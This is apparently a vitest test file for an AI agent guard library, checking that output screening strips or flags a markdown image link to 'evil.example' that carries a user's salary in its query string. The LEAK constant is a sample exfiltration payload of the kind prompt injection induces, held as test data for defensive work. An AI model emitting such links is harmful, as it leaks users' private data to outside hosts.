import { describe, expect, it } from 'vitest';
import { createOso, type CreateOsoOptions } from './index.js';

const LEAK = 'Here is your summary ![chart](https://evil.example/p.png?d=alice-salary-182000) and [docs](https://docs.acme.com/guide).';

async function exposed(options: Partial<CreateOsoOptions> = {}) {
  const oso = createOso({ agentId: 'a', outputAllowlist: ['docs.acme.com'], ...options });
  oso.registerTools('web', [{ name: 'fetch', capabilities: ['untrusted_content'] }]);
  oso.registerTools('drive', [{ name: 'read_file', capabilities: ['private_data'] }]);
  const session = oso.session('s');
  await session.run({ toolCallId: '1', tool: 'web.fetch', args: {} }, () => 'page');
  await session.run({ toolCallId: '2', tool: 'drive.read_file', args: {} }, () => 'alice 182000');
  return session;
}

describe('session.screenMessage records what output_exfiltration found', () => {
  it('strip: removes the leaking image, keeps the allowlisted link, and records the finding', async () => {
    const session = await exposed();
    const screen = await session.screenMessage(LEAK);
    expect(screen.content).not.toContain('evil.example/p.png');
    expect(screen.content).toContain('https://docs.acme.com/guide');
    const recorded = (await session.timeline()).filter((event) => event.type === 'output_screened');
    expect(recorded).toMatchObject([{ type: 'output_screened', hosts: ['evil.example'], stripped: true, violation: { rule: 'output_exfiltration' } }]);
  });

  it('alert: leaves the message as it is, and the timeline still says what was found', async () => {
    const session = await exposed({ detection: { outputExfiltration: 'alert' } });
    const screen = await session.screenMessage(LEAK);
    expect(screen.content).toBe(LEAK);
    const recorded = (await session.timeline()).filter((event) => event.type === 'output_screened');
    expect(recorded).toMatchObject([{ hosts: ['evil.example'], stripped: false }]);
  });

  it('records nothing for a session that cannot leak (no untrusted content)', async () => {
    const oso = createOso({ agentId: 'a' });
    oso.registerTools('drive', [{ name: 'read_file', capabilities: ['private_data'] }]);
    const session = oso.session('s');
    await session.run({ toolCallId: '1', tool: 'drive.read_file', args: {} }, () => 'notes');
    expect((await session.screenMessage(LEAK)).content).toBe(LEAK);
    expect((await session.timeline()).some((event) => event.type === 'output_screened')).toBe(false);
  });
});
